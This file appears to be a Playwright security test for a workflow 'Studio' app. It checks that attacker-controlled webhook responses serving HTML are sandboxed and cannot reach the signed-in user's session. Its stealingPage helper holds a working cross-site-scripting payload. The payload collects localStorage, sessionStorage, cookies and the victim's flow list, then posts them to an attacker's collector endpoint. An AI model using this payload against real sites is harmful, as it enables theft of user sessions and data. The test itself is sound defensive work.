import type { APIRequestContext } from '@playwright/test';
import { expect, openStudio, screenshotPath, sessionCookieOf, signUp, test, type Account, type Weft } from '../support/fixtures.ts';

const json2new = (lambda: Record<string, unknown>) => ({ type: 'json2new', lambda });

async function createRunningFlow(request: APIRequestContext, weft: Weft, account: Account, name: string, flow: Record<string, unknown>): Promise<string> {
  const headers = { authorization: `Bearer ${account.token}` };
  const created = await request.post(`${weft.url}/flows`, { headers, data: { name, flow } });
  expect(created.status(), await created.text()).toBe(201);
  const { flowId } = (await created.json()) as { flowId: string };
  const started = await request.post(`${weft.url}/flows/${flowId}/start`, { headers });
  expect(started.status(), await started.text()).toBe(200);
  return flowId;
}

/**
 * What an attacker's flow answers: an HTML page whose script takes whatever the Studio's origin
 * holds (storage, cookies, and the signed-in user's own API through them) to a second webhook.
 */
function stealingPage(collectorPath: string): string {
  return `<!doctype html><html><head><title>Order received</title></head><body>
<h1>Thank you, your order is received.</h1>
<script>
var loot = JSON.stringify({ local: Object.assign({}, localStorage), session: Object.assign({}, sessionStorage), cookie: document.cookie });
window.name = loot;
document.title = 'pwned';
var mark = document.createElement('p'); mark.id = 'ran'; mark.textContent = loot; document.body.appendChild(mark);
var send = function (body) { return fetch('${collectorPath}', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: body }); };
send(loot);
fetch('/flows', { headers: { 'x-weft-csrf': '1' } }).then(function (r) { return r.text(); }).then(send);
</script>
</body></html>`;
}

test('a signed-in builder who opens a webhook answering HTML with a script gives the script nothing of the Studio', async ({ page, weft, request }) => {
  const victim = await signUp(request, weft);
  const attacker = await signUp(request, weft);

  // The collector: any call to it is the script leaking something.
  const collectorId = await createRunningFlow(request, weft, attacker, 'Collector', {
    hook: { type: 'weft.utils.http.Webhook', x: 0, y: 0, config: { properties: { waitForResponse: false } } },
  });
  const collectorPath = `/flows/${collectorId}/components/hook`;
  const trapId = await createRunningFlow(request, weft, attacker, 'Order page', {
    hook: { type: 'weft.utils.http.Webhook', x: 0, y: 0 },
    reply: {
      type: 'weft.utils.http.Response', x: 200, y: 0, source: { in: { hook: ['out'] } },
      config: { transform: { in: { hook: { out: json2new({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: stealingPage(collectorPath) }) } } } },
    },
  });

  // The victim is signed in to the Studio in this browser.
  await openStudio(page, weft, victim);
  await expect(page.getByRole('button', { name: 'Log out' })).toBeVisible();
  await expect(page.getByText('No flows yet')).toBeVisible();
  // Nothing the Studio page's own script can read holds a token.
  const readable = await page.evaluate(() => JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie }));
  expect(readable).not.toContain(victim.token);
  expect(readable).not.toContain(await sessionCookieOf(page));
  expect(readable).not.toMatch(/token/i);
  // And the Studio itself is served with a strict CSP.
  const studio = await request.get(`${weft.url}/`);
  expect(studio.headers()['content-security-policy']).toMatch(/script-src 'self'(;|$)/);
  expect(studio.headers()['content-security-policy']).toMatch(/frame-ancestors 'self'/);
  expect(studio.headers()['x-frame-options']).toBe('SAMEORIGIN');

  const leaks: string[] = [];
  page.on('request', (sent) => {
    if (new URL(sent.url()).pathname === collectorPath) leaks.push(sent.postData() ?? '');
  });
  const answer = await page.goto(`${weft.url}/flows/${trapId}/components/hook`);
  await page.waitForLoadState('networkidle');
  expect(answer?.status()).toBe(200);

  // The page is shown, but its script never ran: no mark, no title change, nothing sent anywhere.
  await expect(page.getByRole('heading', { name: 'Thank you, your order is received.' })).toBeVisible();
  await page.screenshot({ path: screenshotPath('webhook-answer-script-blocked.png') });
  await expect(page.locator('#ran')).toHaveCount(0);
  expect(await page.title()).toBe('Order received');
  expect(await page.evaluate(() => window.name)).toBe('');
  expect(leaks).toEqual([]);
  const collected = await request.get(`${weft.url}/logs?flowId=${collectorId}`, { headers: { authorization: `Bearer ${attacker.token}` } });
  expect(((await collected.json()) as { records: unknown[] }).records).toEqual([]);
  // Because the answer is sandboxed: an opaque origin without script, whatever it says.
  const headers = answer?.headers() ?? {};
  expect(headers['content-security-policy']).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
  expect(headers['x-content-type-options']).toBe('nosniff');

  // The victim's Studio session is untouched.
  await page.goto(`${weft.url}/#/flows`);
  await expect(page.getByRole('button', { name: 'Log out' })).toBeVisible();
});
